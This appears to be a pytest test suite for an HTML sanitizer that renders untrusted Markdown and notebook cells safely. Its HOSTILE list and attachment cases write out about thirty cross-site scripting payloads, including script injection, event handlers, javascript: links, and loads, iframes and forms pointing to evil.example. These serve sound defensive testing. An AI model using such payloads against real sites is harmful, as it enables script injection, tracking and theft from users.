"""Untrusted Markdown as HTML: nothing runs, nothing is fetched, and no word goes unseen."""

from __future__ import annotations

from typing import Any

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st
from life_cycle import active
from nbformat import NotebookNode, v4

from attunement_grading.safe_html import PLAIN_ABOVE, CleanCells, safe_html

PIXEL = "data:image/png;base64,AAAA"
HOSTILE = [
    "<script>taken()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>taken()</scr</script>ipt>",
    '<img src="x" onerror="taken()">',
    "<img src=x onerror=taken()>",
    '<p onclick="taken()" style="position:fixed">words</p>',
    '<a href="javascript:taken()">words</a>',
    '<a href=" java\nscript:taken()">words</a>',
    '<a href="&#106;avascript:taken()">words</a>',
    "[words](javascript:taken())",
    "[words](JaVaScRiPt:taken())",
    "[words](data:text/html;base64,PHNjcmlwdD4=)",
    "[words](vbscript:taken())",
    "<javascript:taken()>",
    "![words](https://evil.example/track.png)",
    "![words](data:image/svg+xml;base64,PHN2Zz4=)",
    '![words](x"onerror="taken())',
    '<img src="data:text/html,<script>taken()</script>">',
    '<iframe src="https://evil.example"></iframe>',
    '<svg><a xlink:href="javascript:taken()"><text>words</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="taken()">',
    "<style>body { background: url(https://evil.example) }</style>",
    '<form action="https://evil.example"><button>words</button></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    '<a href="https://x.example" onmouseover="taken()">words</a>',
    '<details open ontoggle="taken()">words</details>',
    "<noscript><p title='</noscript><img src=x onerror=taken()>'></noscript>",
    "```html\n<script>taken()</script>\n```",
    "$\\href{javascript:taken()}{words}$",
    "\\begin{a}<script>taken()</script>\\end{a}",
    "$$<img src=x onerror=taken()>$$",
]
PIECES = [
    *HOSTILE,
    *"< > & \" ' ` * _ [ ] ( ) ! # - | \\ $ : / = ~".split(),
    *[
        "\n",
        "\n\n",
        " ",
        "<!--",
        "-->",
        "</",
        "<b>",
        "</b>",
        "<div>",
        "</div>",
        "<p ",
        "```",
        "    ",
    ],
    *["<I felt lost>", "[Ana]: Yes.", "[^1]: ", "&amp;", "<table>", "<td>", "- [ ] ", "> ", "1. "],
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "Before {} after", "> {}", "- {}", "<div>\n{}\n</div>"])
def test_what_could_run_or_fetch_is_taken_out(text: str, around: str) -> None:
    assert active(safe_html(around.format(text))) == []


@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
@settings(max_examples=400, deadline=None)
def test_no_mixture_of_markup_runs_or_fetches(text: str) -> None:
    assert active(safe_html(text)) == []


SEEN = st.sampled_from([one for one in PIECES if one not in HOSTILE])


@given(st.lists(SEEN, max_size=12))
@settings(max_examples=400, deadline=None)
def test_every_word_between_markup_can_be_read(pieces: list[str]) -> None:
    words = [f"word{n}." for n in range(len(pieces))]
    text = "".join(f"{piece} {word} " for piece, word in zip(pieces, words, strict=True))
    page = BeautifulSoup(safe_html(text), "html.parser")
    seen = page.get_text() + " ".join(
        str(value) for tag in page.find_all(True) for value in tag.attrs.values()
    )
    assert [word for word in words if word not in seen] == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<!-- I was afraid -->", "<!-- I was afraid -->"),
        ("<I felt lost> then", "<I felt lost> then"),
        ("[Ana]: Yes.", "[Ana]: Yes."),
        ("</3 for her", "</3 for her"),
        ("```I said\nno\n```", "I said\nno"),
        ("- [ ] ask", "[ ] ask"),
        ("<script>taken()</script>", "<script>taken()</script>"),
        ("![a view](https://evil.example/a.png)", "a view"),
    ],
)
def test_what_is_not_shown_as_markup_is_shown_as_text(text: str, shown: str) -> None:
    assert BeautifulSoup(safe_html(text), "html.parser").get_text().strip() == shown


def test_what_people_write_is_kept() -> None:
    clean = safe_html(
        "# One\n\n**bold** and [a link](https://x.example), [mail](mailto:a@x.example)\n\n"
        "- a\n\n| a |\n|---|\n| b |\n\n<details open><summary>s</summary>t</details>"
    )
    page = BeautifulSoup(clean, "html.parser")
    assert [link["href"] for link in page.find_all("a")] == [
        "https://x.example",
        "mailto:a@x.example",
    ]
    for tag in ("h1", "strong", "li", "td", "details", "summary"):
        assert page.find(tag) is not None, tag


def test_a_pasted_image_stays_and_has_a_text() -> None:
    attachments = {"a.png": {"image/png": "AAAA"}}
    for text in ("![](attachment:a.png)", f"![]({PIXEL})", f'<img src="{PIXEL}">'):
        image = BeautifulSoup(safe_html(text, attachments), "html.parser").find("img")
        assert image is not None
        assert (image["src"], image["alt"]) == (PIXEL, "")


@pytest.mark.parametrize(
    "attachments",
    [
        {"a.png": {"text/html": "PHNjcmlwdD4="}},
        {"a.png": {"image/svg+xml": "PHN2Zz4="}},
        {"a.png": {'image/png;"onerror="x': "AAAA"}},
        {"a.png": {"image/png": '"><script>taken()</script>'}},
        {"a.png": "no dict"},
        {},
    ],
)
def test_an_attachment_that_is_no_image_never_runs(attachments: dict[str, Any]) -> None:
    clean = safe_html("Look: ![view](attachment:a.png) here", attachments)
    assert active(clean) == []
    assert "Look:" in clean
    assert "here" in clean


def test_headings_move_down_and_never_past_the_sixth() -> None:
    clean = safe_html("# a\n\n##### b", below=2)
    assert [tag.name for tag in BeautifulSoup(clean, "html.parser").find_all(True)] == ["h3", "h6"]


@pytest.mark.parametrize(
    "text",
    ["<b>" * 50_000, "*a " * (PLAIN_ABOVE + 1), "<script>taken()</script>" * 5_000],
)
def test_a_very_long_text_is_shown_as_typed(text: str) -> None:
    page = BeautifulSoup(safe_html(text), "html.parser")
    assert page.get_text() == text
    assert active(str(page)) == []


@pytest.mark.timeout(20)
@pytest.mark.parametrize("piece", ["<b><i>", "<div>\n", "[", "`a", "\\begin{a}", "> ", "<a ", "!["])
def test_tangled_text_takes_no_long_time(piece: str) -> None:
    safe_html(piece * (PLAIN_ABOVE // len(piece)))


# --- the formgrader's cells -----------------------------------------------------------------


def cleaned(cell: NotebookNode) -> NotebookNode:
    return CleanCells().preprocess_cell(cell, {}, 0)[0]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_and_raw_cells_reach_the_formgrader_clean_and_on_one_line(text: str) -> None:
    for cell in (v4.new_markdown_cell(f"a\n\n{text}\n\nb"), v4.new_raw_cell(f"a\n\n{text}\n\nb")):
        done = cleaned(cell)
        assert done.cell_type == "markdown"
        assert "\n" not in done.source
        assert active(done.source) == []
        assert done.source.startswith('<div class="tex2jax_ignore">')


def test_code_cells_are_left_to_the_formgrader_which_escapes_them() -> None:
    assert cleaned(v4.new_code_cell("<script>")).source == "<script>"
